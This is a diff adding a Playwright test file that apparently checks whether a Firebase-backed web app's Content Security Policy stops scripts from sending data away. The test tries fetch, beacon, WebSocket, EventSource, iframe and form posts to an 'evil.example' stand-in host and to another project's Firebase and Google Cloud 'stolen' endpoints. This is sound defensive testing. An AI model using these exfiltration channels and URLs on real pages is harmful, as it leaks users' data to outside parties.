@@ -1,0 +1,80 @@
+import type { Page } from "@playwright/test";
+import { expect, test } from "./support/fixtures.ts";
+
+interface Attempt {
+  readonly url: string;
+  readonly by: "fetch" | "beacon" | "socket" | "events" | "form" | "frame";
+}
+
+/** Whether the page's policy, and not the network of this machine, stopped an attempt to send something away. */
+function isRefused(page: Page, attempt: Attempt): Promise<boolean> {
+  return page.evaluate(async ({ url, by }) => {
+    const refused = new Promise<boolean>((resolve) => {
+      document.addEventListener("securitypolicyviolation", () => resolve(true), { once: true });
+      const ended = () => setTimeout(() => resolve(false), 0);
+      if (by === "fetch") fetch(url, { method: "POST", mode: "no-cors", body: "everything" }).then(ended, ended);
+      if (by === "events") new EventSource(url).addEventListener("error", ended);
+      if (by === "beacon") {
+        navigator.sendBeacon(url, "everything");
+        // A beacon reports nothing; whatever is sent after it is judged after it.
+        void fetch("/robots.txt").then(ended, ended);
+      }
+      if (by === "socket") {
+        try {
+          new WebSocket(url).addEventListener("error", ended);
+        } catch {
+          ended();
+        }
+      }
+      if (by === "frame") {
+        const frame = document.createElement("iframe");
+        frame.src = url;
+        frame.addEventListener("load", ended);
+        document.body.append(frame);
+      }
+      if (by === "form") {
+        const form = document.createElement("form");
+        form.action = url;
+        form.method = "post";
+        document.body.append(form);
+        form.submit();
+      }
+    });
+    return refused;
+  }, attempt);
+}
+
+const OTHERS: readonly Attempt[] = [
+  { by: "fetch", url: "https://another-default-rtdb.firebaseio.com/stolen.json" },
+  { by: "beacon", url: "https://another-default-rtdb.firebaseio.com/stolen.json" },
+  { by: "events", url: "https://another-default-rtdb.firebaseio.com/stolen.json" },
+  { by: "fetch", url: "https://another-default-rtdb.europe-west1.firebasedatabase.app/stolen.json" },
+  { by: "socket", url: "wss://another-default-rtdb.europe-west1.firebasedatabase.app/.ws" },
+  { by: "fetch", url: "https://firestore.googleapis.com/v1/projects/another/databases/(default)/documents/stolen" },
+  { by: "fetch", url: "https://storage.googleapis.com/upload/storage/v1/b/another/o?name=stolen" },
+  { by: "fetch", url: "https://pubsub.googleapis.com/v1/projects/another/topics/stolen:publish" },
+  { by: "fetch", url: "https://us-central1-another.cloudfunctions.net/stolen" },
+  { by: "fetch", url: "https://evil.example/" },
+  { by: "beacon", url: "https://evil.example/" },
+  { by: "socket", url: "wss://evil.example/" },
+  { by: "frame", url: "https://evil.example/" },
+  { by: "form", url: "https://evil.example/" },
+];
+
+const OURS: readonly Attempt[] = [
+  { by: "fetch", url: "https://identitytoolkit.googleapis.com/v1/accounts:lookup" },
+  { by: "fetch", url: "https://securetoken.googleapis.com/v1/token" },
+  { by: "fetch", url: "https://firebasestorage.googleapis.com/v0/b/ours/o" },
+  { by: "socket", url: "wss://ours-default-rtdb.firebaseio.com/.ws?v=5" },
+  // Where the database service sends its clients on to.
+  { by: "socket", url: "wss://s-usc1c-nss-200.firebaseio.com/.ws?v=5&ns=ours-default-rtdb" },
+];
+
+for (const path of ["/login", "/a/b/c"])
+  test(`a script on ${path} can send nothing to another project or anybody else`, async ({ page, expectConsole }) => {
+    expectConsole(/Content Security Policy|Refused to|net::ERR|404/);
+    await page.goto(path);
+    for (const attempt of OTHERS) expect([attempt, await isRefused(page, attempt)]).toEqual([attempt, true]);
+    // Nothing of the outside is there on this machine: what is let through fails in the network.
+    for (const attempt of OURS) expect([attempt, await isRefused(page, attempt)]).toEqual([attempt, false]);
+  });
